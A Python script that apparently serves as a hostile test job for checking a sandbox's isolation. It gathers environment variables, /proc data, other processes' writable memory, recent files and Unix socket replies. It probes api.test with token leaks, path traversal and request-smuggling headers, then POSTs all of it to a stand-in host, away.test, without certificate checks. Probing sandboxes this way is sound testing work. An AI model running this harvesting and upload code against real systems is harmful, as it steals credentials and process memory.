"""A hostile job that reads all that it can, and says it: on stdout, and to a host. Its argv: which parts, or none for all."""
import os, socket, ssl, stat, sys, time
import urllib.request

OUT = sys.stdout.buffer
PORT, CLEAR = os.environ.get("PORT", ""), os.environ.get("CLEAR", "")
said = []


def say(name, data):
    for where in (OUT.write, said.append):
        where(b"\n== " + name.encode("utf8", "surrogateescape") + b"\n" + data)


def read(path, most):
    """Never waits: what has no end is left after `most` bytes."""
    try:
        fd = os.open(path, os.O_RDONLY | os.O_NONBLOCK | os.O_NOCTTY)
    except OSError:
        return
    try:
        data = b""
        while len(data) < most:
            piece = os.read(fd, most - len(data))
            if not piece:
                break
            data += piece
    except OSError:
        pass
    finally:
        os.close(fd)
    if data:
        say(path, data)


def variables():
    say("environ", repr(dict(os.environ)).encode())
    say("argv", repr(sys.argv).encode())


def processes():
    for pid in [each for each in os.listdir("/proc") if each.isdigit()] + ["self"]:
        for name in ("environ", "cmdline", "status", "maps", "mountinfo", "auxv", "cgroup", "comm", "limits", "stack", "syscall", "wchan"):
            read(f"/proc/{pid}/{name}", 1 << 20)
        try:
            for fd in os.listdir(f"/proc/{pid}/fd"):
                say(f"{pid} fd {fd}", os.readlink(f"/proc/{pid}/fd/{fd}").encode())
        except OSError:
            pass
    for folder, _, names in os.walk("/proc"):
        parts = folder.split("/")
        if len(parts) > 2 and (parts[2].isdigit() or parts[2] in ("self", "thread-self")) and parts[-1] != "net":
            continue
        for name in names:
            if name not in ("kcore", "kmsg", "kpagecount", "kpageflags", "kpagecgroup", "sysrq-trigger"):
                read(os.path.join(folder, name), 1 << 18)


def memory():
    for pid in [each for each in os.listdir("/proc") if each.isdigit()]:
        try:
            with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as mem:
                for line in maps:
                    place, rights, _, _, inode = line.split()[:5]
                    if not rights.startswith("rw") or inode != "0":
                        continue
                    start, end = (int(each, 16) for each in place.split("-"))
                    try:
                        mem.seek(start)
                        say(f"{pid} {place}", mem.read(min(end - start, 8 << 20)))
                    except (OSError, ValueError, OverflowError):
                        pass
        except OSError:
            pass


def files():
    new = time.time() - 3600
    budget = 24 << 20
    for folder, folders, names in os.walk("/"):
        if folder == "/":
            folders[:] = [each for each in folders if each != "proc"]
        for name in names:
            path = os.path.join(folder, name)
            try:
                about = os.lstat(path)
            except OSError:
                continue
            # programs and libraries of the host were there before there was a secret
            if path.startswith(("/usr/", "/lib", "/bin/", "/sbin/")) and about.st_ctime < new:
                continue
            if stat.S_ISREG(about.st_mode) and budget > 0:
                most = 4096 if path.startswith("/sys/") else 1 << 20
                budget -= min(about.st_size, most)
                read(path, most)


def sockets():
    for line in open("/proc/net/unix").read().splitlines()[1:]:
        name = line.split()[-1]
        if not name.startswith(("@", "/")):
            continue
        try:
            with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as one:
                one.settimeout(0.2)
                one.connect("\0" + name[1:] if name.startswith("@") else name)
                say(name, one.recv(65536))
        except OSError:
            pass


def ask(name, text, tls=True, port=None):
    """All bytes of an answer, whatever they are."""
    try:
        with socket.create_connection((name, int(port or (PORT if tls else CLEAR))), 5) as one:
            if tls:
                one = ssl.create_default_context().wrap_socket(one, server_hostname=name)
            one.settimeout(3)
            one.sendall(text.encode())
            data = b""
            while True:
                piece = one.recv(65536)
                if not piece:
                    break
                data += piece
    except OSError as error:
        data = repr(error).encode()
    say(f"{name} {text[:60]!r}", data)


def network():
    token = os.environ.get("TOKEN", "")

    def head(name, method="GET", path="/", more=""):
        return f"{method} {path} HTTP/1.1\r\nHost: {name}:{PORT}\r\nConnection: close\r\n{more}\r\n"

    for path in ("/", "/error", "/redirect", "/headers", "/../", "/%2e%2e/", "//x", "/a?" + token):
        ask("api.test", head("api.test", path=path))
    for method in ("TRACE", "OPTIONS", "DELETE", "CONNECT", "PRI", "NONSENSE"):
        ask("api.test", head("api.test", method))
    ask("api.test", head("api.test", more=f"X-Token: {token}\r\n"))
    ask("api.test", head("api.test", more="Content-Length: 1\r\nTransfer-Encoding: chunked\r\n"))
    ask("api.test", head("other.test"))
    ask("api.test", "no HTTP at all\r\n\r\n")
    ask("api.test", "no TLS at all\r\n\r\n", tls=False, port=PORT)
    ask("denied.test", head("denied.test"))
    try:
        say("addresses", repr(socket.getaddrinfo("api.test", 443)).encode())
    except OSError as error:
        say("addresses", repr(error).encode())


def upload():
    context = ssl._create_unverified_context()
    request = urllib.request.Request(f"https://away.test:{PORT}/upload", data=b"".join(said), method="POST")
    urllib.request.urlopen(request, context=context).read()


PARTS = {"variables": variables, "processes": processes, "memory": memory, "files": files, "sockets": sockets, "network": network, "upload": upload}
for name in sys.argv[1:] or PARTS:
    PARTS[name]()
# put together only here: the job has just said its own text, and its memory
OUT.write("".join(["\n== se", "en all\n"]).encode())
OUT.flush()
sys.stdin.read()
